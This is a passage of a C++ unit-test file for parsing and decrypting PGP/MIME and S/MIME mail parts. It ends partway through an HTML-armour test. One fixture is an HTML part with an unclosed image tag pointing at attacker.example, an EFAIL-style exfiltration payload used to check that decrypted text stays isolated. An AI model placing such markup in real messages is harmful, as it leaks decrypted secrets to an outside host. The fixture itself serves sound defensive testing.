// Splitting received protected entities: the kinds, what the PGPsdk gets to see, the decoded
// S/MIME signature, the armour charset, and the MIME helpers on their own edge cases.
#include "engine/PSMimeParts.h"
#include "engine/PSMimeTools.h"

#include "foundation/Base64.h"
#include "mime/FakeMailServices.h"

#include <gtest/gtest.h>

namespace {

struct Split {
    int kind;
    std::string header, body, charset, signature;
};

Split SplitOf(const std::string& entity, bool headerOnly = false)
{
    Split s;
    s.kind = SplitSecureMime(entity, s.header, s.body, headerOnly, s.charset, s.signature);
    return s;
}

const std::string kArmor = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n-----END PGP MESSAGE-----\r\n";

TEST(SplitSecureMime, KindsByContentType)
{
    struct Case { const char* name; std::string contentType; int kind; };
    const Case cases[] = {
        { "plain", "text/plain", kSecureMimeNone },
        { "pgp encrypted", "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b", kSecureMimePgp },
        { "pgp keys", "application/pgp-keys", kSecureMimePgp },
        { "smime signed-data", "application/pkcs7-mime; smime-type=signed-data; name=a.p7m", kSecureMimeSignedData },
        { "smime certs-only", "application/pkcs7-mime; smime-type=certs-only", kSecureMimeSignedData },
        { "smime enveloped", "application/pkcs7-mime; smime-type=enveloped-data", kSecureMimeEnveloped },
        { "smime without type", "application/x-pkcs7-mime; name=smime.p7m", kSecureMimeEnveloped },
        { "smime multipart/signed", "multipart/signed; protocol=\"application/x-pkcs7-signature\"; boundary=b",
            kSecureMimeSigned },
    };
    for (const Case& c : cases) {
        EXPECT_EQ(SplitOf("Subject: x\r\nContent-Type: " + c.contentType + "\r\n\r\nbody\r\n").kind, c.kind) << c.name;
        EXPECT_EQ(SplitOf("Content-Type: " + c.contentType + "\r\n\r\nbody\r\n", true).kind, c.kind) << c.name;
    }
}

TEST(SplitSecureMime, PgpEncryptedGivesTheArmourAndDropsMimeFields)
{
    const Split s = SplitOf("Subject: hi\r\nContent-Type: multipart/encrypted;\r\n protocol=\"application/pgp-encrypted\";"
                        " boundary=\"B\"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n\r\n--B\r\nContent-Type: application/"
                        "pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--B\r\nContent-Type: application/octet-stream\r\n\r\n"
                        + kArmor + "\r\n--B--\r\n");
    EXPECT_EQ(s.kind, kSecureMimePgp);
    EXPECT_EQ(s.header, "Subject: hi\r\n");
    EXPECT_EQ(s.body, kArmor + "\r\n");

    // Gateways send the encrypted part Base64: the armour is found in its decoded body.
    const Split b = SplitOf(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=B\r\n\r\n"
        "--B\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--B\r\n"
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + Base64Encode(kArmor) + "\r\n--B--\r\n");
    EXPECT_EQ(b.kind, kSecureMimePgp);
    EXPECT_EQ(b.body, kArmor);
}

TEST(SplitSecureMime, PgpSignedKeepsTheWholeEntityForVerification)
{
    const std::string type = "multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; "
                             "boundary=\"PGPMime-=-=-Boundary-=-=-0123ABCD\"";
    const Split s = SplitOf("Content-Type: " + type + "\r\nX-A: 1\r\n\r\n--PGPMime\r\n");
    EXPECT_EQ(s.kind, kSecureMimePgp);
    EXPECT_EQ(s.header, "X-A: 1\r\n");
    EXPECT_EQ(s.body, FoldHeaderLine("Content-Type: " + type) + "\r\n\r\n--PGPMime\r\n");
    EXPECT_NE(s.body.find(";\r\n "), std::string::npos);
}

TEST(SplitSecureMime, SMimeSignedGivesFirstPartAndDecodedSignature)
{
    const std::string signature("\x30\x82\x01\x00sig", 7);
    const std::string content = "Content-Type: text/plain\r\n\r\nsigned text";
    std::string boundary, entity;
    std::size_t length = 0;
    BuildSMimeBody(content, &signature, boundary, entity, false, false, 3, length);
    const Split s = SplitOf(entity);
    EXPECT_EQ(s.kind, kSecureMimeSigned);
    EXPECT_EQ(s.body, content);
    EXPECT_EQ(s.signature, signature);
    EXPECT_EQ(s.header, "Mime-Version: 1.0\r\n");
}

TEST(SplitSecureMime, SMimeEnvelopedIsDecoded)
{
    const std::string der("\x30\x80\x06\x09\x2A\x86", 6);
    std::string boundary, entity;
    std::size_t length = 0;
    BuildSMimeBody(der, nullptr, boundary, entity, true, true, 0, length);
    const Split s = SplitOf(entity);
    EXPECT_EQ(s.kind, kSecureMimeEnveloped);
    EXPECT_EQ(s.body, der);
    EXPECT_EQ(s.header, "");
}

TEST(SplitSecureMime, InlineArmourCharsetAndHeaderOnlyEntities)
{
    EXPECT_EQ(SplitOf("Subject: x\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nVersion: 1\r\ncharset:  utf-8\r\n\r\nhQ==\r\n")
                  .charset,
        "UTF-8");
    const std::string clear = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA1\r\n\r\nCharset: no\r\n"
                              "-----BEGIN PGP SIGNATURE-----\r\nCharset: KOI8-R\r\n\r\niQ==\r\n";
    EXPECT_EQ(SplitOf("X: y\r\n\r\n" + clear).charset, "KOI8-R");
    const Split all = SplitOf("Subject: no blank line");
    EXPECT_EQ(all.header, "Subject: no blank line\r\n");
    EXPECT_EQ(all.body, "");
    EXPECT_EQ(all.kind, kSecureMimeNone);
}

TEST(MimeHelpers, FieldValuesSubtypesAndBoundaries)
{
    const std::string header = "X-Content-Type: no\r\ncontent-type: multipart/signed;\r\n\tboundary=\"a b\"; x=1\r\n"
                               "Subject: s\r\n";
    EXPECT_EQ(HeaderFieldValue(header, "Content-Type:"), "multipart/signed;\tboundary=\"a b\"; x=1");
    EXPECT_EQ(HeaderFieldValue(header, "Missing:"), "");
    EXPECT_EQ(ApplicationSubtype("multipart/signed; protocol=\"application/pgp-signature\""), "pgp-signature");
    EXPECT_EQ(ApplicationSubtype("Application/PGP-keys ; x"), "PGP-keys");
    EXPECT_EQ(ApplicationSubtype("text/plain"), "");
    EXPECT_EQ(BoundaryParameter("multipart/mixed; BOUNDARY= \"a=b\" ; x=y"), "--a=b");
    EXPECT_EQ(BoundaryParameter("multipart/mixed"), "");
    EXPECT_EQ(BoundaryParameter("boundary=x"), ""); // searched from the 11th character on
    EXPECT_EQ(RemoveHeaderFields("A: 1\r\nContent-Type: x;\r\n y\r\nB: 2\r\n", { "content-type:" }), "A: 1\r\nB: 2\r\n");
}

TEST(MimeHelpers, PartsArmourAndFolding)
{
    EXPECT_EQ(FirstMimePart("pre\r\n--B\r\none\r\ntwo\r\n--B\r\nx\r\n--B--\r\n", "--B"), "one\r\ntwo");
    EXPECT_EQ(FirstMimePart("--B\r\nno end", "--B"), "");
    EXPECT_EQ(DecodedPartBody("Content-Transfer-Encoding: BASE64\r\n\r\n" + Base64Encode("raw\x01")), "raw\x01");
    EXPECT_EQ(DecodedPartBody("Content-Type: text/plain\r\n\r\nkept"), "kept");
    EXPECT_EQ(FirstArmoredBlock("x\r\n" + kArmor + "\r\n\0tail"), kArmor + "\r\n");
    EXPECT_EQ(FirstArmoredBlock("no armour -----BEGIN PGP MESSAGE-----"), "");

    const std::string shortLine(76, 'a');
    EXPECT_EQ(FoldHeaderLine(shortLine), shortLine);
    const std::string longLine = "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
                                 "micalg=pgp-sha512; boundary=\"PGPMime-=-=-Boundary-=-=-0123ABCD\"";
    const std::string folded = FoldHeaderLine(longLine);
    std::string unfolded = folded;
    for (size_t at; (at = unfolded.find("\r\n ")) != std::string::npos;)
        unfolded.replace(at, 3, unfolded[at + 3] == ' ' ? "" : " ");
    EXPECT_EQ(unfolded, longLine);
    for (size_t from = 0, end; from < folded.size(); from = end + 2) {
        end = folded.find("\r\n", from);
        if (end == std::string::npos)
            end = folded.size();
        EXPECT_LE(end - from, 76u) << folded;
    }
}

// Protected parts beside plain ones are decoded one by one, each in its own part's place; every
// other byte of the message stays as it came.
TEST(DecodeProtectedParts, EachProtectedPartTakesItsOwnPlace)
{
    const std::string head = "Subject: parts\r\nMIME-Version: 1.0\r\n";
    const std::string pgpMime
        = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
          "boundary=\"in\"\r\n\r\n--in\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
          "Version: 1\r\n\r\n--in\r\nContent-Type: application/octet-stream\r\n\r\n"
        + kArmor + "\r\n--in--\r\n";
    const std::string html = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/";
    const std::string file = "Content-Type: application/octet-stream; name=\"plan.txt.pgp\"\r\n"
                             "Content-Transfer-Encoding: base64\r\n\r\n"
        + Base64Encode("\x85\x01binary") + "\r\n";
    const std::string inlineText = "Content-Type: text/plain\r\n\r\nHi\r\n\r\n" + kArmor;
    // As this plug-in's inline encryption sends an attachment: its own name, the armour as it is.
    const std::string ownFile = "Content-Type: application/octet-stream; name=\r\n \"data.bin\"\r\n"
                                "Content-Transfer-Encoding: 7BIT\r\n\r\n"
        + kArmor;
    const std::string message = head
        + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\npreamble\r\n--out\r\n" + html
        + "\r\n--out\r\n" + pgpMime + "\r\n--out\r\n" + file + "--out\r\n" + inlineText + "\r\n--out\r\n"
        + ownFile + "\r\n--out--\r\nepilogue\r\n";
    ASSERT_TRUE(HasProtectedParts(message));

    std::vector<std::pair<TPartForm, std::string>> seen;
    const auto decode = [&](TPartForm form, const std::string& content, std::string& result) {
        seen.emplace_back(form, content);
        result = form == TPartForm::Entity ? "Content-Type: text/plain\r\n\r\nsecret entity\r\n"
            : form == TPartForm::File      ? "plain file"
                                           : "Hi\r\nsecret text\r\n";
        return true;
    };
    const TProtectedParts parts = DecodeProtectedParts(message, decode);
    ASSERT_EQ(seen.size(), 4u);
    EXPECT_EQ(seen[0], std::make_pair(TPartForm::Entity, pgpMime));
    EXPECT_EQ(seen[1], std::make_pair(TPartForm::File, std::string("\x85\x01binary")));
    EXPECT_EQ(seen[2], std::make_pair(TPartForm::ArmouredText, "Hi\r\n\r\n" + kArmor));
    EXPECT_EQ(seen[3], std::make_pair(TPartForm::File, kArmor));
    EXPECT_EQ(parts.Protected, 4);
    EXPECT_EQ(parts.Decoded, 4);
    EXPECT_TRUE(parts.PlainContent); // the HTML part
    const std::string attachment = "Content-Type: application/octet-stream; name=\"plan.txt\"\r\n"
                                   "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; "
                                   "filename=\"plan.txt\"\r\n\r\n"
        + Base64Encode("plain file") + "\r\n";
    EXPECT_EQ(parts.Message,
        head + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\npreamble\r\n--out\r\n" + html
            + "\r\n--out\r\nContent-Type: text/plain\r\n\r\nsecret entity\r\n\r\n--out\r\n" + attachment
            + "--out\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\nHi\r\nsecret "
              "text\r\n"
            + "\r\n--out\r\nContent-Type: application/octet-stream; "
              "name=\"data.bin\"\r\nContent-Transfer-Encoding: "
              "base64\r\nContent-Disposition: attachment; filename=\"data.bin\"\r\n\r\n"
            + Base64Encode("plain file") + "\r\n--out--\r\nepilogue\r\n");
    ASSERT_EQ(parts.DecodedRanges.size(), 4u);
    EXPECT_EQ(parts.Message.substr(
                  parts.DecodedRanges[0].first, parts.DecodedRanges[0].second - parts.DecodedRanges[0].first),
        "Content-Type: text/plain\r\n\r\nsecret entity\r\n");

    // What the decoder refuses stays as it came.
    const TProtectedParts refused
        = DecodeProtectedParts(message, [](TPartForm, const std::string&, std::string&) { return false; });
    EXPECT_EQ(refused.Message, message);
    EXPECT_EQ(refused.Decoded, 0);
    EXPECT_EQ(refused.Protected, 4);
}

TEST(DecodeProtectedParts, WhichMessagesTakeThePartsWay)
{
    const std::string versionPart = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    const std::string armourPart = "Content-Type: application/octet-stream\r\n\r\n" + kArmor;
    const std::string rewrapped = "Subject: r\r\nContent-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\n"
        + versionPart + "\r\n--r\r\n" + armourPart + "\r\n--r--\r\n";
    const std::string whole
        = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=r\r\n\r\n"
          "--r\r\n"
        + versionPart + "\r\n--r\r\n" + armourPart + "\r\n--r--\r\n";
    const std::string plainMixed
        = "Content-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\n"
          "hello\r\n--r--\r\n";
    const std::string fileAlone
        = "Subject: f\r\nContent-Type: application/octet-stream; name=\"smime.p7m\"\r\n"
          "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\r\n";
    const std::string inlineText = "Subject: i\r\n\r\n" + kArmor;
    const std::string ascKey
        = "Content-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\nContent-Type: application/pgp-keys; "
          "name=\"key.asc\"\r\n\r\n-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmQ==\r\n"
          "-----END PGP PUBLIC KEY BLOCK-----\r\n--r--\r\n";
    EXPECT_TRUE(HasProtectedParts(rewrapped));
    EXPECT_TRUE(HasProtectedParts(fileAlone));
    EXPECT_FALSE(HasProtectedParts(whole)); // the whole message is the protected entity
    EXPECT_FALSE(HasProtectedParts(plainMixed));
    EXPECT_FALSE(HasProtectedParts(inlineText));
    EXPECT_FALSE(HasProtectedParts(ascKey));

    // The re-wrapped pair is decoded as the PGP/MIME message it was, in place of the multipart.
    std::string given;
    const TProtectedParts parts = DecodeProtectedParts(
        rewrapped, [&](TPartForm form, const std::string& content, std::string& result) {
            given = content;
            result = "Content-Type: text/plain\r\n\r\nunwrapped\r\n";
            return form == TPartForm::Entity;
        });
    EXPECT_EQ(SplitOf(given).body, kArmor + "\r\n");
    EXPECT_EQ(parts.Message, "Subject: r\r\nContent-Type: text/plain\r\n\r\nunwrapped\r\n");
    EXPECT_TRUE(parts.PlainContent); // no signature covers the unwrapped text
}

// PGP/MIME encrypted around an entity, and multipart/signed around one, as parts of a message.
std::string EncryptedPart(const std::string& boundary)
{
    return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"" + boundary
        + "\"\r\n\r\n--" + boundary
        + "\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--" + boundary
        + "\r\nContent-Type: application/octet-stream\r\n\r\n" + kArmor + "\r\n--" + boundary + "--\r\n";
}

std::string SignedPart(const std::string& content)
{
    return "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\";"
           " boundary=\"s\"\r\n\r\n--s\r\n"
        + content
        + "\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n"
          "\r\niQ==\r\n-----END PGP SIGNATURE-----\r\n\r\n--s--\r\n";
}

// The text with bare LF line ends, as most mail clients encrypt an entity.
std::string Lf(std::string text)
{
    for (size_t at = 0; (at = text.find("\r\n", at)) != std::string::npos;)
        text.erase(at, 1);
    return text;
}

const std::string kLetter = "Content-Type: text/plain\r\n\r\nsigned letter\r\n";
const std::string kOpaqueSigned = "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n"
                                  "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCAMIACAQEx\r\n";
const std::string kPicture
    = "Content-Type: image/png; name=\"p.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
      "iVBORw0K\r\n";

std::string Mixed(const std::vector<std::string>& parts)
{
    std::string message
        = "Subject: walk\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n";
    for (const std::string& part : parts)
        message += "--m\r\n" + part + "\r\n";
    return message + "--m--\r\n";
}

// The walk goes through what it decoded: an entity that came out of the decryption (with bare LF
// line ends, as most clients encrypt it) is walked in turn as MIME, a signature's content and a
// forwarded message too; every protected part records its own place and state, and only a part
// outside all of them makes the message protected in part.
TEST(DecodeProtectedParts, WhatADecodedPartHoldsIsWalkedInTurn)
{
    const std::string signedLetter = SignedPart(kLetter);
    const std::string forwarded
        = "Content-Type: message/rfc822\r\n\r\nFrom: ann@example.org\r\nSubject: fwd\r\n" + signedLetter;
    const struct Case {
        const char* name;
        std::string message;
        std::vector<TPartForm> seen; // what the decoder is handed, in order
        std::vector<TWalkedPart> parts;
        bool plainContent;
        std::string out; // what the message becomes
    } cases[] = {
        { "signed then encrypted, LF inside, beside a picture", Mixed({ EncryptedPart("e"), kPicture }),
            { TPartForm::Entity, TPartForm::Signed },
            { { TPartForm::Entity, 1, -1, true }, { TPartForm::Signed, 2, 0, true } }, true,
            Mixed({ signedLetter, kPicture }) },
        { "an outer signature over inner encryption", SignedPart(Mixed({ kLetter, EncryptedPart("e") })),
            { TPartForm::Signed, TPartForm::Entity, TPartForm::Signed },
            { { TPartForm::Signed, 0, -1, true }, { TPartForm::Entity, 2, 0, true },
                { TPartForm::Signed, 3, 1, true } },
            false, SignedPart(Mixed({ kLetter, signedLetter })) },
        { "a signed message forwarded", Mixed({ kLetter, forwarded }), { TPartForm::Signed },
            { { TPartForm::Signed, 2, -1, true } }, true, Mixed({ kLetter, forwarded }) },
        { "two encrypted parts, the second signed inside", Mixed({ EncryptedPart("a"), EncryptedPart("b") }),
            { TPartForm::Entity, TPartForm::Entity, TPartForm::Signed },
            { { TPartForm::Entity, 1, -1, true }, { TPartForm::Entity, 1, -1, true },
                { TPartForm::Signed, 2, 1, true } },
            true, Mixed({ kLetter, signedLetter }) },
        { "opaque signed data beside a letter", Mixed({ kLetter, kOpaqueSigned }), { TPartForm::Signed },
            { { TPartForm::Signed, 1, -1, true } }, true, Mixed({ kLetter, kLetter }) },
        { "signed inside the encrypted data", Mixed({ EncryptedPart("i") }), { TPartForm::Entity },
            { { TPartForm::Entity, 1, -1, true, true } }, false, Mixed({ kLetter }) },
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        std::vector<TPartForm> seen;
        // Part "a" holds a letter, part "i" one signed inside its encrypted data, others a signed letter.
        const auto decode = [&](TPartForm form, const std::string& content, std::string& result) {
            seen.push_back(form);
            if (form == TPartForm::Signed) {
                // The signed entity reaches the check with the line ends it was signed in.
                EXPECT_EQ(content.find("\n\n"), std::string::npos) << content;
                // Opaque signed data gives its content.
                if (content == kOpaqueSigned)
                    result = Lf(kLetter);
                return kPartDecoded;
            }
            const bool inside = content.find("boundary=\"i\"") != std::string::npos;
            result
                = Lf(inside || content.find("boundary=\"a\"") != std::string::npos ? kLetter : signedLetter);
            return inside ? kPartDecodedSigned : kPartDecoded;
        };
        EXPECT_TRUE(
            HasProtectedParts(c.message) || c.message.rfind("Content-Type: multipart/signed", 0) == 0);
        const TProtectedParts parts = DecodeProtectedParts(c.message, decode);
        EXPECT_EQ(seen, c.seen);
        ASSERT_EQ(parts.Parts.size(), c.parts.size());
        for (size_t i = 0; i < c.parts.size(); ++i) {
            SCOPED_TRACE(i);
            EXPECT_EQ(parts.Parts[i].Form, c.parts[i].Form);
            EXPECT_EQ(parts.Parts[i].Depth, c.parts[i].Depth);
            EXPECT_EQ(parts.Parts[i].Inside, c.parts[i].Inside);
            EXPECT_EQ(parts.Parts[i].Decoded, c.parts[i].Decoded);
            EXPECT_EQ(parts.Parts[i].Signed, c.parts[i].Signed || c.parts[i].Form == TPartForm::Signed);
        }
        EXPECT_EQ(parts.PlainContent, c.plainContent);
        EXPECT_EQ(parts.Message, c.out);
        // Every decoded or verified part has its place, so the reader can mark a signed one too.
        EXPECT_EQ(parts.DecodedRanges.size(), static_cast<size_t>(parts.Decoded));
        for (const auto& [first, end] : parts.DecodedRanges)
            EXPECT_NE(parts.Message.substr(first, end - first).find("signed letter"), std::string::npos);
    }
}

// A damaged signature is no verified part, and its content is still walked; decodes nest eight
// deep at most, whatever a hostile decryption gives back.
TEST(DecodeProtectedParts, RefusedSignaturesAndDeepNestingEndTheWalkCleanly)
{
    const std::string message = SignedPart(Mixed({ kLetter, EncryptedPart("e") }));
    const TProtectedParts refused
        = DecodeProtectedParts(message, [](TPartForm form, const std::string&, std::string& result) {
              result = kLetter;
              return form != TPartForm::Signed;
          });
    ASSERT_EQ(refused.Parts.size(), 2u);
    EXPECT_FALSE(refused.Parts[0].Decoded);
    EXPECT_TRUE(refused.Parts[1].Decoded);
    EXPECT_EQ(refused.Decoded, 1);
    EXPECT_EQ(refused.DecodedRanges.size(), 1u); // a signature not verified marks no place
    EXPECT_EQ(refused.Message, SignedPart(Mixed({ kLetter, kLetter })));

    int decodes = 0;
    const TProtectedParts deep = DecodeProtectedParts(
        Mixed({ EncryptedPart("e") }), [&](TPartForm, const std::string&, std::string& result) {
            ++decodes;
            result = Mixed({ EncryptedPart("e") });
            return true;
        });
    EXPECT_EQ(decodes, 9);
    EXPECT_EQ(deep.Parts.size(), 9u);
    EXPECT_EQ(deep.DecodedRanges.size(), 9u);
    // The last decode's entity stays as it came out: its encrypted part is not decoded once more.
    EXPECT_NE(deep.Message.find("-----BEGIN PGP MESSAGE-----"), std::string::npos);
    for (size_t i = 1; i < deep.DecodedRanges.size(); ++i) {
        EXPECT_GE(deep.DecodedRanges[i].first, deep.DecodedRanges[i - 1].first);
        EXPECT_LE(deep.DecodedRanges[i].second, deep.DecodedRanges[i - 1].second);
    }
}

// A binary OpenPGP file is encrypted data whether its type says text/pgp or its name comes in
// RFC 2231 or RFC 2047 form (ISO-8859-15 here): it is decrypted, under its name without ".pgp".
TEST(DecodeProtectedParts, BinaryPgpFilesAreFoundByTypeAndByEncodedName)
{
    const TBoundLatin1Services services; // the charsets of encoded names
    const std::string data = Base64Encode("\x85\x01 binary packet") + "\r\n";
    const std::string plain = "\x50\x6c\x61\x6e\xc3\xa4.txt"; // "Planä.txt" in UTF-8
    const struct {
        const char* name;
        std::string header;
        std::string fileName; // as the decrypted file's parameters give it
    } cases[] = {
        { "text/pgp alone", "Content-Type: text/PGP\r\nContent-Transfer-Encoding: base64\r\n",
            "\"decrypted\"" },
        { "RFC 2231",
            "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename*=iso-8859-15''Plan%E4.txt.pgp\r\n",
            "\"=?UTF-8?B?" + Base64Encode(plain) + "?=\"" },
        { "RFC 2047",
            "Content-Type: application/octet-stream;\r\n name=\"=?ISO-8859-15?Q?Plan=E4.txt.pgp?=\"\r\n"
            "Content-Transfer-Encoding: base64\r\n",
            "\"=?UTF-8?B?" + Base64Encode(plain) + "?=\"" },
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const std::string message = "Subject: file\r\nMIME-Version: 1.0\r\n" + c.header + "\r\n" + data;
        EXPECT_TRUE(HasProtectedParts(message));
        std::vector<TPartForm> seen;
        const TProtectedParts parts = DecodeProtectedParts(
            message, [&](TPartForm form, const std::string& content, std::string& result) {
                seen.push_back(form);
                EXPECT_EQ(content, "\x85\x01 binary packet");
                result = "the plan";
                return true;
            });
        EXPECT_EQ(seen, std::vector<TPartForm> { TPartForm::File });
        EXPECT_EQ(parts.Message,
            "Subject: file\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=" + c.fileName
                + "\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="
                + c.fileName + "\r\n\r\n" + Base64Encode("the plan"));
    }
}

// The blank line after an armour's header lines may hold no-break spaces as editors write them
// (0xA0, or C2 A0 in UTF-8) or other blanks: it is emptied, in every armour of the text, and
// nothing else changes; an armour already right is left alone.
TEST(MimeHelpers, ArmourBlankLinesWithBlanksAreEmptied)
{
    const std::string body = "hQEMA\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n";
    const struct {
        const char* name;
        std::string text, mended;
    } cases[] = {
        { "0xA0", "Hi\r\n-----BEGIN PGP MESSAGE-----\r\n\xA0\r\n" + body,
            "Hi\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n" + body },
        { "UTF-8 after a header line", "-----BEGIN PGP MESSAGE-----\nVersion: x\n\xC2\xA0 \t\n" + body,
            "-----BEGIN PGP MESSAGE-----\nVersion: x\n\n" + body },
        { "clear-signed, both armours",
            "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n \r\n\xA0text\r\n"
            "-----BEGIN PGP SIGNATURE-----\r\n\xA0\r\niQ==\r\n-----END PGP SIGNATURE-----\r\n",
            "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n\xA0text\r\n"
            "-----BEGIN PGP SIGNATURE-----\r\n\r\niQ==\r\n-----END PGP SIGNATURE-----\r\n" },
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        std::string mended;
        ASSERT_TRUE(MendArmourBlankLines(c.text, mended));
        EXPECT_EQ(mended, c.mended);
        std::string again = "untouched";
        EXPECT_FALSE(MendArmourBlankLines(mended, again));
        EXPECT_EQ(again, "untouched");
    }
    std::string unused;
    EXPECT_FALSE(MendArmourBlankLines("-----BEGIN PGP MESSAGE-----\r\nhQEMA\r\n\xA0\r\n", unused));
    EXPECT_FALSE(MendArmourBlankLines("\xA0\r\nplain text\r\n", unused));
}

// Armour that an HTML editor wrote: in a <div> with <br> line ends, blank lines as &nbsp; and
// characters as entities, or in a <pre> with source line ends. The decoder gets the lines a reader
// sees; what it gives back stands in the armour's place as HTML, the markup around it byte for
// byte; an armour it refuses stays as it came; an HTML part of a message is decoded in its place.
TEST(DecodeHtmlArmour, TheArmourIsReadAsItIsShownAndItsTextPutBackAsHtml)
{
    const std::string armour
        = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQ+a/b==\r\n=x\r\n-----END PGP MESSAGE-----\r\n";
    const struct {
        const char* name;
        std::string html;
        std::string before, after; // the markup kept around the decoded text
        const char* lineEnd; // of the decoded text, in HTML
    } cases[] = {
        { "div and br",
            "<html><body><div dir=\"ltr\">-----BEGIN PGP MESSAGE-----<br>&nbsp;<br>hQ&#43;a/b==<br/>=x<BR>"
            "-----END PGP MESSAGE-----<br></div></body></html>\r\n",
            "<html><body><div dir=\"ltr\">", "<br></div></body></html>\r\n", "<br>\r\n" },
        { "a div per line, source lines between",
            "<div>-----BEGIN PGP MESSAGE-----</div>\r\n<div>&#xA0;</div>\r\n<div>hQ&#x2B;a/b==</div>\r\n"
            "<div>=x</div>\r\n<div>-----END PGP MESSAGE-----</div>",
            "<div>", "</div>", "<br>\r\n" },
        { "pre",
            "<p>Read it:</p>\r\n<pre>-----BEGIN PGP MESSAGE-----\r\n&nbsp;\nhQ+a/b==\r\n=x\r\n"
            "-----END PGP MESSAGE-----</pre>",
            "<p>Read it:</p>\r\n<pre>", "</pre>", "\r\n" },
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        std::vector<std::string> given;
        std::string result;
        ASSERT_TRUE(DecodeHtmlArmour(
            c.html,
            [&](const std::string& text, std::string& decoded) {
                given.push_back(text);
                decoded = "Ann & <Bob>\r\nsecond \"line\"\r\n";
                return true;
            },
            result));
        EXPECT_EQ(given, std::vector<std::string> { armour });
        EXPECT_EQ(result, c.before + "Ann &amp; &lt;Bob&gt;" + c.lineEnd + "second &quot;line&quot;" + c.after);
    }

    // Two armours, the first refused: it stays, the second is decoded; none decoded is a refusal.
    const std::string two = "<div>-----BEGIN PGP MESSAGE-----<br>a<br>-----END PGP MESSAGE-----</div>"
                            "<div>-----BEGIN PGP MESSAGE-----<br>b<br>-----END PGP MESSAGE-----</div>";
    std::string result;
    ASSERT_TRUE(DecodeHtmlArmour(
        two,
        [](const std::string& text, std::string& decoded) {
            decoded = "plain b";
            return text.find("\r\nb\r\n") != std::string::npos;
        },
        result));
    EXPECT_EQ(
        result, "<div>-----BEGIN PGP MESSAGE-----<br>a<br>-----END PGP MESSAGE-----</div><div>plain b</div>");
    result = "stale";
    EXPECT_FALSE(DecodeHtmlArmour(
        two, [](const std::string&, std::string&) { return false; }, result));
    EXPECT_EQ(result, "");
    EXPECT_FALSE(DecodeHtmlArmour(
        "<div>-----BEGIN PGP MESSAGE-----<br>cut off</div>",
        [](const std::string&, std::string&) { return true; }, result));

    // In a message: the HTML alone, and beside its text alternative; each decoded in its place.
    const std::string htmlPart = "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: "
                                 "quoted-printable\r\n\r\n<div>-----BEGIN PGP MESSAGE-----<br>hQ=3D=3D<br>"
                                 "-----END PGP MESSAGE-----</div>\r\n";
    const std::string alone = "Subject: h\r\n" + htmlPart;
    const std::string alternative
        = "Subject: a\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n"
          "Content-Type: text/plain\r\n\r\n"
        + kArmor + "--a\r\n" + htmlPart + "--a--\r\n";
    const std::string plainHtml
        = "Subject: p\r\nContent-Type: text/html\r\n\r\n<p>-----BEGIN PGP PUBLIC KEY BLOCK-----</p>\r\n";
    EXPECT_TRUE(HasProtectedParts(alone));
    EXPECT_TRUE(HasProtectedParts(alternative));
    EXPECT_FALSE(HasProtectedParts(plainHtml));
    std::vector<std::pair<TPartForm, std::string>> seen;
    const auto decode = [&](TPartForm form, const std::string& content, std::string& decoded) {
        seen.emplace_back(form, content);
        decoded = form == TPartForm::ArmouredHtml ? "<div>secret</div>\r\n" : "secret";
        return true;
    };
    TProtectedParts parts = DecodeProtectedParts(alone, decode);
    EXPECT_EQ(parts.Message,
        "Subject: h\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "<div>secret</div>\r\n");
    ASSERT_EQ(seen.size(), 1u);
